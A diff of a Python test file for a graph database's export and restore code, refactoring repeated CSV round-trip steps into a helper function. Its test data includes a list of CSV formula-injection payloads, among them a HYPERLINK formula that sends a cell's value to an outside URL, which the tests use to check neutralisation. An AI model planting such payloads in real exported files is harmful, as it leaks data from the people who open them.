@@ -56,7 +56,6 @@ def test_a_value_holding_line_ends_dumps_restores_and_exports_whole(graph, tmp_p
     """The dump splits its lines at newlines only, and CSV files quote a carriage return (RFC
     4180 line ends): before, a U+2028 in a name made the dump unreadable by `restore`, and a
     carriage return split the exported row in two."""
-    from graph.dataset_export import write
     from tests.conftest import snapshot
     ingest(graph, with_line_ends(tmp_path / "in"))
     officer = graph.read("export/nodes")
@@ -68,10 +67,7 @@ def test_a_value_holding_line_ends_dumps_restores_and_exports_whole(graph, tmp_p
     restore(graph, tmp_path / "first")
     export(graph, tmp_path / "second")
     assert files(tmp_path / "first") == files(tmp_path / "second")
-    write(graph, tmp_path / "csv", dataset="test-ds")
-    graph.write("admin/delete_everything")
-    ingest(graph, tmp_path / "csv")
-    assert snapshot(graph) == before
+    assert reloads_from_csv(graph, tmp_path / "csv", "test-ds") and snapshot(graph) == before
 
 
 def test_the_dump_holds_everything_with_typed_values(loaded, tmp_path):
@@ -201,23 +197,27 @@ FORMULAS = ["=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")", "+1+2", "-
             "'=already quoted", "'t Hooft"]
 
 
-def test_csv_export_loads_back_to_the_same_graph(loaded, tmp_path):
+def reloads_from_csv(graph, folder, dataset: str) -> bool:
+    """Whether the CSV export of `dataset`, written to `folder` and loaded into the emptied
+    graph, gives back the graph it came from (the files stay, to be read)."""
     from graph.dataset_export import write
     from tests.conftest import snapshot
+    before = snapshot(graph)
+    write(graph, folder, dataset=dataset)
+    graph.write("admin/delete_everything")
+    ingest(graph, folder)
+    return snapshot(graph) == before
+
+
+def test_csv_export_loads_back_to_the_same_graph(loaded, tmp_path):
     loaded.write("admin/delete_everything")
     ingest(loaded, SAMPLE)
-    before = snapshot(loaded)
-    write(loaded, tmp_path / "ds", dataset="kazakhstan-2022")
-    loaded.write("admin/delete_everything")
-    ingest(loaded, tmp_path / "ds")
-    assert snapshot(loaded) == before
+    assert reloads_from_csv(loaded, tmp_path / "ds", "kazakhstan-2022")
 
 
 def test_formula_payloads_are_neutralised_and_round_trip(graph, tmp_path):
     import csv as csv_module
     from graph.cells import FORMULA_STARTS, neutralise
-    from graph.dataset_export import write
-    from tests.conftest import snapshot
     # The values the graph must hold, written as a careful researcher (or our export) writes them.
     people = [{"id": f"person:f{i}", "name": neutralise(value), "sources": "src:a"}
               for i, value in enumerate(FORMULAS)]
@@ -227,12 +227,8 @@ def test_formula_payloads_are_neutralised_and_round_trip(graph, tmp_path):
     ingest(graph, folder)
     names = {r["id"]: r["properties"].get("name") for r in graph.read("export/nodes")}
     assert [names[f"person:f{i}"] for i in range(len(FORMULAS))] == FORMULAS
-    before = snapshot(graph)
-    write(graph, tmp_path / "out", dataset="formulas")
+    assert reloads_from_csv(graph, tmp_path / "out", "formulas")
     for path in (tmp_path / "out").glob("*.csv"):
         with open(path, encoding="utf-8", newline="") as f:
             for row in csv_module.reader(f):
                 assert not [c for c in row if c.startswith(FORMULA_STARTS)], (path.name, row)
-    graph.write("admin/delete_everything")
-    ingest(graph, tmp_path / "out")
-    assert snapshot(graph) == before
